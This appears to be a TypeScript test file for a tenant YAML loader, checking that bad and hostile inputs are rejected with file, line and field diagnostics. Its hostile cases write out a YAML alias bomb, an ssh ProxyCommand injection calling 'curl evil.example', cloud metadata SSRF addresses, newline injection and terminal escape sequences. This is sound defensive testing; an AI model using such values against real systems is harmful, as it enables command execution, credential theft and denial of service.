import * as fs from "fs";
import * as path from "path";
import { describe, expect, it } from "vitest";
import { formatDiagnostic } from "../../../infra/input/diagnostics";
import { loadTenants, TENANT_FILE_MAX_BYTES } from "../../../infra/input/tenants/load";
import { tenantsDir, tenantYaml } from "../../files";

const STACKS = ["prod", "staging"];

function load(files: Record<string, string>) {
  return loadTenants(tenantsDir(files), { stacks: STACKS });
}

function lines(files: Record<string, string>): string[] {
  return load(files).errors.map(formatDiagnostic);
}

const valid = `# yaml-language-server: $schema=./schema.json
name: acme
displayName: ACME Corp
environments: [staging, prod]
access:
  emails: [ana@acme.com]
  emailDomains: [acme.com]
  groups: []
  webhooks: private
kestra:
  adminEmail: ana@acme.com
  size: small
  workers: 0
git:
  url: https://github.com/acme/kestra-flows.git
  branch: main
  directory: _flows
  targetNamespace: acme
  auth: none
  schedule: "*/15 * * * *"
postgres:
  node: swarm-node-1
`;

describe("tenant files: valid input", () => {
  it("loads the documented example with every field", () => {
    const r = load({ "acme.yaml": valid });
    expect(r.errors).toEqual([]);
    expect(r.tenants).toHaveLength(1);
    expect(r.tenants[0].tenant).toMatchObject({ name: "acme", kestra: { size: "small", workers: 0 }, git: { auth: "none" } });
  });

  it("applies defaults", () => {
    const t = load({ "beta.yaml": tenantYaml("beta") }).tenants[0].tenant;
    expect(t.access).toEqual({ emails: ["a@beta.example.com"], emailDomains: [], groups: [], webhooks: "private", serviceToken: false });
    expect(t.kestra).toEqual({ adminEmail: "admin@beta.example.com", size: "small", workers: 0 });
    expect(t.postgres).toEqual({ mode: "container" });
    expect(t.git).toBeUndefined();
  });

  it("returns tenants sorted by name whatever the file order", () => {
    const r = load({ "zeta.yaml": tenantYaml("zeta"), "alpha.yaml": tenantYaml("alpha"), "mid.yaml": tenantYaml("mid") });
    expect(r.tenants.map((t) => t.tenant.name)).toEqual(["alpha", "mid", "zeta"]);
  });

  it("ignores schema.json and hidden files", () => {
    const r = load({ "acme.yaml": valid, "schema.json": "{}", ".acme.yaml.swp": "x" });
    expect(r.errors).toEqual([]);
    expect(r.warnings).toEqual(["tenants/.acme.yaml.swp: hidden file ignored"]);
  });
});

/** Nine levels of nine aliases: 9^9 strings once expanded. */
const BOMB = (() => {
  let text = `name: acme\nlol: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n`;
  let prev = "a";
  for (const n of "bcdefghi") {
    text += `${n}: &${n} [${Array(9).fill(`*${prev}`).join(", ")}]\n`;
    prev = n;
  }
  return text;
})();

// Each rule, its own bad file: [case, file name, content, expected line(s) (exact or regex)].
const cases: [string, string, string, (string | RegExp)[]][] = [
  ["unknown top-level key (typo)", "acme.yaml", valid.replace("access:", "acess:"), [
    "tenants/acme.yaml:5:1 acess: unknown key (did you mean \"access\"?)",
    "tenants/acme.yaml:2:1 access: is required",
  ]],
  ["unknown nested key", "acme.yaml", valid.replace("  webhooks: private", "  webhook: private"), ["tenants/acme.yaml:9:3 access.webhook: unknown key (did you mean \"webhooks\"?)"]],
  ["no identity in access", "acme.yaml", valid.replace("  emails: [ana@acme.com]\n  emailDomains: [acme.com]\n", ""), [
    "tenants/acme.yaml:5:1 access: must name at least one of emails, emailDomains or groups",
  ]],
  ["invalid email", "acme.yaml", valid.replace("emails: [ana@acme.com]", "emails: [ana-at-acme.com]"), ["tenants/acme.yaml:6:12 access.emails.0: is not a valid email address"]],
  ["invalid domain", "acme.yaml", valid.replace("emailDomains: [acme.com]", "emailDomains: [acme]"), [/^tenants\/acme.yaml:7:18 access.emailDomains.0: is not a valid domain name/]],
  ["group id not a UUID", "acme.yaml", valid.replace("groups: []", "groups: [admins]"), [/^tenants\/acme.yaml:8:12 access.groups.0: is not a Cloudflare group id/]],
  ["invalid cron", "acme.yaml", valid.replace('"*/15 * * * *"', '"*/15 * * *"'), [/^tenants\/acme.yaml:20:13 git.schedule: is not a valid cron expression: expected 5 fields/]],
  ["cron value out of range", "acme.yaml", valid.replace('"*/15 * * * *"', '"61 * * * *"'), [/^tenants\/acme.yaml:20:13 git.schedule: is not a valid cron expression: minute "61"/]],
  ["reserved name", "admin.yaml", valid.replace("name: acme", "name: admin"), ["tenants/admin.yaml:2:7 name: is reserved for the platform"]],
  ["name too short", "ab.yaml", valid.replace("name: acme", "name: ab"), ["tenants/ab.yaml:2:7 name: must be at least 3 characters"]],
  ["name with double hyphen", "ac--me.yaml", valid.replace("name: acme", "name: ac--me"), [/^tenants\/ac--me.yaml:2:7 name: must be lower-case letters/]],
  ["name differs from the file name", "acme-eu.yaml", valid, ['tenants/acme-eu.yaml:2:7 name: is "acme" but the file is acme-eu.yaml: they must be equal']],
  ["environment that names no stack", "acme.yaml", valid.replace("[staging, prod]", "[staging, qa]"), [/^tenants\/acme.yaml:4:25 environments.1: names no stack: "qa"/]],
  ["git URL with credentials", "acme.yaml", valid.replace("https://github.com/acme", "https://bot:ghp_x@github.com/acme"), [
    /^tenants\/acme.yaml:15:8 git.url: credentials do not belong in the URL: set `git.auth` and store the token or key with `pulumi config set --secret/,
  ]],
  ["git URL of another scheme", "acme.yaml", valid.replace("https://github.com", "http://github.com"), [/^tenants\/acme.yaml:15:8 git.url: must be an https:\/\/ URL/]],
  ["ssh URL without ssh auth", "acme.yaml", valid.replace("https://github.com/acme/kestra-flows.git", "git@github.com:acme/kestra-flows.git"), ["tenants/acme.yaml:19:9 git.auth: must be ssh for an ssh repository URL"]],
  ["workers over the limit", "acme.yaml", valid.replace("workers: 0", "workers: 21"), [/^tenants\/acme.yaml:13:12 kestra.workers: /]],
  ["size not a profile", "acme.yaml", valid.replace("size: small", "size: huge"), [/^tenants\/acme.yaml:12:9 kestra.size: /]],
  ["missing required section", "acme.yaml", valid.replace(/kestra:\n  adminEmail: ana@acme.com\n  size: small\n  workers: 0\n/, ""), ["tenants/acme.yaml:2:1 kestra: is required"]],
  ["missing admin e-mail (a format field: 'is required', not the format's message)", "acme.yaml", valid.replace("  adminEmail: ana@acme.com\n", ""), [/^tenants\/acme.yaml:\d+:\d+ kestra.adminEmail: is required$/]],
  ["admin e-mail not an address", "acme.yaml", valid.replace("adminEmail: ana@acme.com", "adminEmail: ana"), [/^tenants\/acme.yaml:\d+:\d+ kestra.adminEmail: is not a valid email address$/]],
  ["YAML syntax error", "acme.yaml", "name: acme\naccess: [unclosed\n", [/^tenants\/acme.yaml:\d+:\d+ \(file\): YAML syntax error: /]],
  ["duplicate key", "acme.yaml", valid.replace("displayName: ACME Corp", "displayName: ACME Corp\nname: acme"), ["tenants/acme.yaml:4:1 name: duplicate key: each key may appear once in a mapping"]],
  ["empty file", "acme.yaml", "# nothing here\n", ["tenants/acme.yaml:1:1 (file): file is empty: a tenant file is a mapping with at least name, access and kestra"]],
  ["a list instead of a mapping", "acme.yaml", "- name: acme\n", ["tenants/acme.yaml:1:1 (file): expected a mapping of tenant fields at the top level, found a list"]],
  ["a scalar instead of a mapping", "acme.yaml", "acme\n", ["tenants/acme.yaml:1:1 (file): expected a mapping of tenant fields at the top level, found a single value"]],
  // Hostile input, one field at a time.
  ["a billion-laughs alias bomb", "acme.yaml", BOMB, ["tenants/acme.yaml:2:6 lol: YAML anchors and aliases are not accepted, found an anchor (&name): write each value out in full"]],
  ["an alias of a valid value", "acme.yaml", valid.replace("emails: [ana@acme.com]", "emails: &people [ana@acme.com]").replace("adminEmail: ana@acme.com", "adminEmail: *people"), [
    "tenants/acme.yaml:6:11 access.emails: YAML anchors and aliases are not accepted, found an anchor (&name): write each value out in full",
  ]],
  ["a git URL with an injected line", "acme.yaml", valid.replace("url: https://github.com/acme/kestra-flows.git", 'url: "https://github.com/acme/kestra-flows.git\\nENV_X=1"'), [
    /^tenants\/acme.yaml:15:8 git.url: contains U\+000A \(LINE FEED\)/,
  ]],
  ["a git URL with a tab", "acme.yaml", valid.replace("https://github.com/acme/kestra-flows.git", "https://github.com/acme/\tkestra-flows.git"), [/^tenants\/acme.yaml:15:8 git.url: contains U\+0009 \(TAB\)/]],
  ["a git URL with a space", "acme.yaml", valid.replace("https://github.com/acme/kestra-flows.git", '"https://github.com/acme/kestra flows.git"'), [
    "tenants/acme.yaml:15:8 git.url: must not contain whitespace or control characters: found U+0020 (whitespace)",
  ]],
  ["an ssh URL whose host is an ssh option", "acme.yaml", valid.replace("https://github.com/acme/kestra-flows.git", "ssh://-oProxyCommand=curl%20evil.example/x/acme/flows.git"), [
    "tenants/acme.yaml:15:8 git.url: host must not start with '-': ssh would read it as an option",
  ]],
  ["an scp-like URL whose path is an option", "acme.yaml", valid.replace("https://github.com/acme/kestra-flows.git", "git@github.com:-oProxyCommand=x"), [
    "tenants/acme.yaml:15:8 git.url: repository path must not start a segment with '-': git or ssh would read it as an option",
  ]],
  ["a git URL on the cloud metadata address", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "169.254.169.254/latest/meta-data"), [/^tenants\/acme.yaml:15:8 git.url: host is a link-local address/]],
  ["a git URL on the metadata address written as a number", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "2852039166/latest"), [
    "tenants/acme.yaml:15:8 git.url: host is an IPv4 address in a non-standard form: write it as four decimal numbers (a.b.c.d)",
  ]],
  ["a git URL on AWS's IPv6 metadata address", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "[fd00:ec2::254]/latest"), [/^tenants\/acme.yaml:15:8 git.url: host is a unique local address/]],
  ["a git URL on an IPv4-mapped IPv6 address", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "[::ffff:169.254.169.254]/latest"), [/^tenants\/acme.yaml:15:8 git.url: host is an IPv4-mapped IPv6 address/]],
  ["a git URL on localhost", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "localhost/acme/flows.git"), [/^tenants\/acme.yaml:15:8 git.url: host must be a fully qualified public name/]],
  ["a git URL on a .internal name", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "metadata.google.internal/x"), [/^tenants\/acme.yaml:15:8 git.url: host is a special-use name \(.internal\)/]],
  ["a git URL with a Pebble expression", "acme.yaml", valid.replace("github.com/acme/kestra-flows.git", "github.com/acme/{{secret('GIT_TOKEN')}}.git"), [/^tenants\/acme.yaml:15:8 git.url: must not contain a Pebble expression/]],
  ["a free-mail email domain", "acme.yaml", valid.replace("emailDomains: [acme.com]", "emailDomains: [gmail.com]"), [/^tenants\/acme.yaml:7:18 access.emailDomains.0: is a free-mail provider/]],
  ["another free-mail email domain", "acme.yaml", valid.replace("emailDomains: [acme.com]", "emailDomains: [acme.com, outlook.com]"), [/^tenants\/acme.yaml:7:28 access.emailDomains.1: is a free-mail provider/]],
  ["a public suffix as email domain", "acme.yaml", valid.replace("emailDomains: [acme.com]", "emailDomains: [co.uk]"), [/^tenants\/acme.yaml:7:18 access.emailDomains.0: is a public suffix \(Public Suffix List\)/]],
  ["a private-section public suffix as email domain", "acme.yaml", valid.replace("emailDomains: [acme.com]", "emailDomains: [github.io]"), [/^tenants\/acme.yaml:7:18 access.emailDomains.0: is a public suffix/]],
  ["sync into Kestra's system namespace", "acme.yaml", valid.replace("targetNamespace: acme", "targetNamespace: system"), [/^tenants\/acme.yaml:18:20 git.targetNamespace: is in the system namespace, which the fleet manages/]],
  ["sync into the fleet's admin namespace", "acme.yaml", valid.replace("targetNamespace: acme", "targetNamespace: admin"), [/^tenants\/acme.yaml:18:20 git.targetNamespace: is in the admin namespace/]],
  ["sync below the fleet's admin namespace", "acme.yaml", valid.replace("targetNamespace: acme", "targetNamespace: admin.git"), [/^tenants\/acme.yaml:18:20 git.targetNamespace: is in the admin namespace/]],
  ["a schedule with a tab", "acme.yaml", valid.replace('"*/15 * * * *"', '"*/15\\t* * * *"'), [/^tenants\/acme.yaml:20:13 git.schedule: contains U\+0009 \(TAB\)/]],
  ["a schedule with a newline", "acme.yaml", valid.replace('"*/15 * * * *"', '"*/15 * * * *\\n"'), [/^tenants\/acme.yaml:20:13 git.schedule: contains U\+000A \(LINE FEED\)/]],
  ["a display name with a bidirectional override", "acme.yaml", valid.replace("displayName: ACME Corp", 'displayName: "ACME \\u202eproC"'), [/^tenants\/acme.yaml:3:14 displayName: contains U\+202E \(bidirectional control\)/]],
  ["a display name with a raw control character", "acme.yaml", valid.replace("displayName: ACME Corp", "displayName: ACME\u0007Corp"), [/^tenants\/acme.yaml:3:14 displayName: contains U\+0007 \(control character\)/]],
  ["a key with a control character", "acme.yaml", valid.replace("  webhooks: private", '  "webhooks\\u0000": private'), ["tenants/acme.yaml:9:3 access.webhooks\\u{0000}: key contains U+0000 (NUL): values are single-line text without control or bidirectional characters"]],
  ["more emails than one Access policy takes", "acme.yaml", valid.replace("emails: [ana@acme.com]", `emails: [${Array.from({ length: 1001 }, (_, i) => `u${i}@acme.com`).join(", ")}]`), [
    "tenants/acme.yaml:6:3 access.emails: must have at most 1000 entries (Cloudflare Access rules per policy)",
  ]],
  ["a .yml file", "acme.yml", valid, ["tenants/acme.yml (file): not a tenant file: tenant files end in .yaml (rename it) and the folder holds nothing else"]],
  ["a stray file", "notes.txt", "hello", [/^tenants\/notes.txt \(file\): not a tenant file/]],
];

describe("tenant files: every bad input is reported with file:line:col and field", () => {
  for (const [name, file, text, expected] of cases) {
    it(name, () => {
      const r = load({ [file]: text });
      expect(r.tenants).toEqual([]);
      const got = r.errors.map(formatDiagnostic).sort();
      expect(got).toHaveLength(expected.length);
      for (const e of expected) {
        if (typeof e === "string") expect(got).toContain(e);
        else expect(got.some((g) => e.test(g)), `${got.join("\n")}\n~ ${e}`).toBe(true);
      }
    });
  }

  it("reports every problem of every file in one run, and returns no tenant", () => {
    const r = load({
      "acme.yaml": valid.replace("access:", "acess:"),
      "beta.yaml": tenantYaml("beta").replace("emails: [a@beta.example.com]", "emails: [nope]"),
      "good.yaml": tenantYaml("good"),
      "x.yml": "",
    });
    expect(r.tenants).toEqual([]);
    const files = new Set(r.errors.map((e) => e.file));
    expect([...files].sort()).toEqual(["tenants/acme.yaml", "tenants/beta.yaml", "tenants/x.yml"]);
  });

  it("rejects a folder inside the tenants folder", () => {
    const dir = tenantsDir({ "acme.yaml": valid });
    fs.mkdirSync(path.join(dir, "old"));
    const r = loadTenants(dir, { stacks: STACKS });
    expect(r.errors.map(formatDiagnostic)).toEqual(["tenants/old (file): unexpected folder: the tenants folder holds only <tenant>.yaml files and schema.json"]);
  });

  it("refuses a tenant file that is not UTF-8, at the first bad byte", () => {
    const dir = tenantsDir({});
    fs.writeFileSync(path.join(dir, "acme.yaml"), Buffer.concat([Buffer.from("name: acme\ndisplayName: Caf"), Buffer.from([0xe9, 0x20]), Buffer.from("SA\n")]));
    expect(loadTenants(dir, { stacks: STACKS }).errors.map(formatDiagnostic)).toEqual(["tenants/acme.yaml:2:17 (file): is not valid UTF-8 text: save the file as UTF-8"]);
  });

  it("refuses a tenant file over the size bound without parsing it", () => {
    const big = valid + "#".repeat(TENANT_FILE_MAX_BYTES);
    expect(lines({ "acme.yaml": big })).toEqual([
      `tenants/acme.yaml:1:1 (file): file is ${Buffer.byteLength(big)} bytes, over the ${TENANT_FILE_MAX_BYTES}-byte limit of a tenant file`,
    ]);
  });

  it("refuses the alias bomb without expanding it (well under a second)", () => {
    const dir = tenantsDir({ "acme.yaml": BOMB });
    const start = performance.now();
    const r = loadTenants(dir, { stacks: STACKS });
    expect(performance.now() - start).toBeLessThan(1000);
    expect(r.errors).toHaveLength(1);
  });

  it("prints no control character of a file name or field on the operator's terminal", () => {
    const r = load({ "acme\u001b[2J.yaml": valid });
    const out = r.errors.map(formatDiagnostic).join("\n");
    expect(out).not.toMatch(/[\u0000-\u001f]/);
    expect(out).toContain("acme\\u{001B}[2J.yaml");
  });

  it("lists at most 50 problems of a file of junk keys, quickly (no quadratic duplicate-key check)", () => {
    const junk = "name: acme\n" + Array.from({ length: 14000 }, (_, i) => `k${i}: 1`).join("\n") + "\n";
    expect(Buffer.byteLength(junk)).toBeLessThan(TENANT_FILE_MAX_BYTES);
    const start = performance.now();
    const got = lines({ "acme.yaml": junk });
    expect(performance.now() - start).toBeLessThan(5000); // the parser's own quadratic check took ~8 s here
    expect(got).toHaveLength(51);
    expect(got).toContain("tenants/acme.yaml:1:1 (file): more than 50 problems: the first 50 are listed, fix them and run again");
  });

  it("names a duplicate key nested anywhere by its full path", () => {
    expect(lines({ "acme.yaml": valid.replace("  size: small", "  size: small\n  size: medium") })).toEqual([
      "tenants/acme.yaml:13:3 kestra.size: duplicate key: each key may appear once in a mapping",
    ]);
  });
});
